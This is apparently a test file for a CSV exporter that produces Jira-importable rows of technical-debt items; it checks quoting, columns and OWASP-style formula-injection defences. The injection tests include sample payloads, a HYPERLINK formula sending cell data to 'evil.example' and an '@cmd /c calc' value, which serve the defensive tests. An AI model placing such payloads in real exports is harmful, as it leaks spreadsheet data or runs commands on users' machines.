import * as assert from 'node:assert/strict';
import { csvField, toCsv } from '../../../src/engine/export';
import { exportItem, parseCsv } from './fixtures';

const HEADER = ['Summary', 'Description', 'Issue Type', 'Priority', 'Labels', 'Story Points', 'Assignee', 'Due Date', 'Sprint', 'Paydown ID', 'Status', 'Tag', 'File', 'Line', 'Outcome', 'Interest'];

describe('CSV export', () => {
  it('writes the documented header and one CRLF-terminated row per item', () => {
    const text = toCsv([exportItem({ sprint: '2026-S24', due: '2026-12-31', outcome: 'reliability' })]);
    assert.ok(text.endsWith('\r\n'));
    // The strict parser refuses a record that does not end in CRLF or a bare LF outside quotes.
    assert.ok(!/[^\r]\n/.test(text.replace(/"(?:[^"]|"")*"/g, '')), 'every record ends in CRLF');
    const [header, row] = parseCsv(text);
    assert.deepEqual(header, HEADER);
    assert.deepEqual(row, [
      'Replace the retry loop',
      'Paydown id: PD-7Q2K9A\nWhere: src/pay.ts:12\nTag: DEBT',
      'Task',
      'High',
      'payments',
      '3',
      'alice',
      '2026-12-31',
      '2026-S24',
      'PD-7Q2K9A',
      'open',
      'DEBT',
      'src/pay.ts',
      '12',
      'reliability',
      '',
    ]);
  });

  it('ends each row with the interest (commits to the file in the window), after every Jira column', () => {
    const rows = parseCsv(toCsv([exportItem({ interest: { commits: 41, lines: 900, days: 90, topShare: 0.05, score: 4.75 } }), exportItem({ id: 'PD-000002', interest: { commits: 0, lines: 0, days: 90, topShare: 1, score: 0 } })]));
    assert.equal(rows[0]!.at(-1), 'Interest');
    assert.deepEqual(rows.slice(1).map((r) => r.at(-1)), ['41', '0']);
  });

  it('maps impact to Jira priorities and leaves unknown impact and effort empty', () => {
    const rows = parseCsv(
      toCsv([
        exportItem({ id: 'PD-000001', impact: 'low' }),
        exportItem({ id: 'PD-000002', impact: 'medium' }),
        exportItem({ id: 'PD-000003', impact: 'high' }),
        exportItem({ id: 'PD-000004', impact: 'critical' }),
        exportItem({ id: 'PD-000005', impact: null, effort: null, owners: [] }),
      ]),
    ).slice(1);
    assert.deepEqual(rows.map((r) => r[3]), ['Low', 'Medium', 'High', 'Highest', '']);
    assert.equal(rows[4]![5], '');
    assert.equal(rows[4]![6], '');
  });

  it('repeats the Labels column as often as the most-labelled item needs, as Jira reads several labels', () => {
    const [header, one, three] = parseCsv(toCsv([exportItem({ labels: ['a'] }), exportItem({ labels: ['x', 'y', 'z'] })]));
    assert.deepEqual(header!.slice(4, 7), ['Labels', 'Labels', 'Labels']);
    assert.equal(header![7], 'Story Points');
    assert.deepEqual(one!.slice(4, 7), ['a', '', '']);
    assert.deepEqual(three!.slice(4, 7), ['x', 'y', 'z']);
  });

  it('keeps the first owner as Assignee and lists every owner and reference in the description', () => {
    const [, row] = parseCsv(toCsv([exportItem({ body: 'It retries on 4xx.', owners: ['alice', 'bob'], issueRefs: ['GH-412'] })]));
    assert.equal(row![6], 'alice');
    assert.equal(row![1], 'It retries on 4xx.\n\nPaydown id: PD-7Q2K9A\nWhere: src/pay.ts:12\nTag: DEBT\nOwners: alice, bob\nReferences: GH-412');
  });

  describe('formula injection (OWASP: prefix a quote)', () => {
    const cases: [string, string][] = [
      ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
      ['@cmd /c calc', `'@cmd /c calc`],
      ['-1+1', `'-1+1`],
      ['+SUM(A1:A9)', `'+SUM(A1:A9)`],
      ['\tindented', `'\tindented`],
      ['\r=1', `'\r=1`],
      ['a = b', 'a = b'],
      ['e-mail @alice', 'e-mail @alice'],
    ];
    for (const [title, cell] of cases) {
      it(`${JSON.stringify(title)} reads back as ${JSON.stringify(cell)}`, () => {
        const [, row] = parseCsv(toCsv([exportItem({ title })]));
        assert.equal(row![0], cell);
      });
    }

    it('neutralises every column, not only the summary', () => {
      const [, row] = parseCsv(toCsv([exportItem({ labels: ['=x'], owners: ['@bob'], sprint: '+1', outcome: '-o', file: '=f.ts' })]));
      assert.equal(row![4], "'=x");
      assert.equal(row![6], "'@bob");
      assert.equal(row![8], "'+1");
      assert.equal(row![12], "'=f.ts");
      assert.equal(row![14], "'-o");
    });
  });

  describe('RFC 4180 quoting', () => {
    it('quotes fields with commas, quotes, CR or LF and doubles the quotes', () => {
      assert.equal(csvField('plain'), 'plain');
      assert.equal(csvField('a,b'), '"a,b"');
      assert.equal(csvField('say "hi"'), '"say ""hi"""');
      assert.equal(csvField('two\nlines'), '"two\nlines"');
      assert.equal(csvField('crlf\r\nline'), '"crlf\r\nline"');
      assert.equal(csvField('lone\rcr'), '"lone\rcr"');
      assert.equal(csvField(''), '');
    });

    it('round-trips awkward text exactly through an RFC 4180 parser', () => {
      const titles = ['commas, everywhere, here', 'a "quoted" word', '""', 'trailing quote"', 'multi\nline\ntitle', 'windows\r\nline', ' spaced ', 'ünïcödé — 日本語 🎉', '=1+1, "and" more\n@x'];
      const items = titles.map((title, n) => exportItem({ id: `PD-00000${n}`, title, body: `${title}\n${title}` }));
      const rows = parseCsv(toCsv(items));
      assert.equal(rows.length, titles.length + 1);
      for (const [n, title] of titles.entries()) {
        const expected = /^[=+\-@\t\r]/.test(title) ? `'${title}` : title;
        assert.equal(rows[n + 1]![0], expected);
        assert.ok(rows[n + 1]![1]!.startsWith(`${expected}\n${title}\n\nPaydown id:`));
        assert.equal(rows[n + 1]!.length, HEADER.length);
      }
    });
  });

  it('adds a UTF-8 byte order mark only when asked', () => {
    assert.ok(!toCsv([exportItem()]).startsWith('\uFEFF'));
    const withBom = toCsv([exportItem()], { bom: true });
    assert.ok(withBom.startsWith('\uFEFFSummary,'));
    assert.deepEqual(Buffer.from(withBom, 'utf8').subarray(0, 3), Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('writes only the header for no items', () => {
    assert.deepEqual(parseCsv(toCsv([])), [HEADER]);
  });
});
